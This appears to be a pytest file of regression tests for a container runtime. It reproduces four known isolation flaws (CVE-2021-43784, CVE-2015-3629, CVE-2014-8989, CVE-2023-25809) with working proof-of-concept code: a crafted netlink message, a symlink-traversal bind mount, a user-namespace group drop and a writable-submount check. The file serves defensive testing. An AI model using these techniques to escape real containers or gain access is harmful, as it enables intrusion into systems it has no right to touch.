"""Attacks on processes that do as the vulnerable runtime did: they work, so the tests would notice.

Those whose probe is not in the test itself. What they do is in namespaces of their own.
"""

from __future__ import annotations

import os
import struct
import subprocess
import tempfile
from pathlib import Path

import pytest

pytestmark = [pytest.mark.requires_root, pytest.mark.requires_command("unshare")]


def run_bare(*argv: str) -> str:
    return subprocess.run(argv, capture_output=True, text=True, check=True).stdout


def _encode(kind: int, payload: bytes) -> bytes:
    """Return a netlink attribute as runc had it before 1.0.3: its length is cut to 16 bits."""
    return struct.pack("=HH", (len(payload) + 4) & 0xFFFF, kind) + payload


def _decode(message: bytes) -> list[tuple[int, bytes]]:
    found = []
    while message:
        length, kind = struct.unpack_from("=HH", message)
        found.append((kind, message[4:length]))
        message = message[length:]
    return found


def test_a_length_of_16_bits_lets_a_text_set_what_it_is_not_asked_for() -> None:
    """CVE-2021-43784; that ours does not: test_from_inside, with longer texts."""
    paths, flags = 27282, 27281  # runc's numbers of namespace paths and clone flags
    no_namespaces = _encode(flags, b"\0\0\0\0")
    filler = _encode(0, bytes(2**16 - len(no_namespaces) - 4))
    message = _encode(paths, b"abcd" + no_namespaces + filler)
    assert _decode(message)[:2] == [(paths, b"abcd"), (flags, b"\0\0\0\0")]
    short = _encode(paths, b"abcd" + no_namespaces)
    assert [kind for kind, _ in _decode(short)] == [paths]


def test_a_mount_by_its_name_goes_where_a_link_in_the_layer_leads(tmp_path: Path) -> None:
    """CVE-2015-3629; that ours does not: test_from_inside."""
    root, volume, outside = (tmp_path / name for name in ("root", "volume", "outside"))
    for directory in (root, volume, outside):
        directory.mkdir()
    (root / "data").symlink_to(f"../../../../../../../..{outside}")
    target = f"{root}/data/in"
    script = f"mkdir -p {target} && mount --bind {volume} {target} && cat /proc/self/mountinfo"
    assert f" {outside}/in " in run_bare("unshare", "--mount", "sh", "-c", script)
    assert (outside / "in").is_dir()


DROP = """
import ctypes, os, sys

def is_readable():
    try:
        open(sys.argv[1]).close()
    except PermissionError:
        return False
    return True

ready, go = os.pipe(), os.pipe()
child = os.fork()
if child == 0:
    os.setgroups([4242])
    os.setresgid(1500, 1500, 1500)
    os.setresuid(1500, 1500, 1500)
    before = is_readable()
    assert ctypes.CDLL(None).unshare(0x10000000) == 0  # CLONE_NEWUSER
    os.write(ready[1], b"x")
    os.read(go[0], 1)
    os.setgroups([])
    print(before, is_readable(), flush=True)
    os._exit(0)
os.read(ready[0], 1)
for kind in ("uid", "gid"):  # without "deny" in setgroups
    with open(f"/proc/{child}/{kind}_map", "w") as file:
        file.write("0 1500 1")
os.write(go[1], b"x")
os.waitpid(child, 0)
"""


def test_a_group_is_dropped_where_setgroups_is_not_denied() -> None:
    """CVE-2014-8989; that it is: test_ordinary_user."""
    with tempfile.NamedTemporaryFile(dir="/tmp") as closed:  # where every user may go
        os.fchown(closed.fileno(), 0, 4242)
        os.fchmod(closed.fileno(), 0o604)
        assert run_bare("/usr/bin/python3", "-c", DROP, closed.name) == "False True\n"


def test_what_is_below_a_mount_stays_writable_where_ro_is_for_its_top_alone() -> None:
    """CVE-2023-25809 in its own form: in a user namespace, with the cgroup namespace not unshared.

    That ours is for all below: test_ordinary_user.
    """
    script = (
        "mount --rbind /sys /mnt && mount -o remount,bind,ro /mnt && "
        "find /mnt/fs/cgroup -type f -name cgroup.procs -writable -print -quit; "
        "find /mnt -xdev -type f -writable -print -quit"
    )
    found = run_bare("unshare", "--user", "--map-root-user", "--mount", "sh", "-c", script)
    assert [Path(line).parts[2] for line in found.splitlines()] == ["fs"]
